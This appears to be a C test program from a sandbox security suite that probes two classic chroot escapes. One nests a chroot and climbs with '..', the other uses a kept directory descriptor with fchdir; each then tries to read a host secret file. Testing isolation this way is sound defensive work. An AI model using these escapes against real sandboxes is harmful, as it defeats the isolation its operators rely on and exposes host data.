/* The classic chroot escape: chroot into a subdirectory, climb out with "..", chroot ".". */
#include "sec.h"

static long escape_attempt(void)
{
    mkdir("/tmp/sec-jail", 0755);
    if (chroot("/tmp/sec-jail") != 0)
        return -1;
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    int fd = open(SECRET, O_RDONLY);
    if (fd < 0) {
        /* chroot worked but stayed inside: report as "refused" with the open's errno */
        return -1;
    }
    char buf[256] = {0};
    read(fd, buf, sizeof buf - 1);
    close(fd);
    if (strstr(buf, "HOST-SECRET"))
        return 1; /* escaped */
    errno = ENOENT;
    return -1;
}
static long fchdir_escape(void)
{
    int keep = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/sec-jail2", 0755);
    if (chroot("/tmp/sec-jail2") != 0)
        return -1;
    fchdir(keep);
    for (int i = 0; i < 64; i++)
        chdir("..");
    int fd = open(SECRET + 1, O_RDONLY);
    if (fd < 0)
        return -1;
    char buf[256] = {0};
    read(fd, buf, sizeof buf - 1);
    close(fd);
    if (strstr(buf, "HOST-SECRET"))
        return 1;
    errno = ENOENT;
    return -1;
}

int main(int argc, char **argv)
{
    sec_init(argc, argv);
    PROBE("chroot; chdir ..(x64); chroot .", escape_attempt);
    PROBE("chroot with a kept dirfd; fchdir; ..(x64)", fchdir_escape);
    return sec_finish();
}
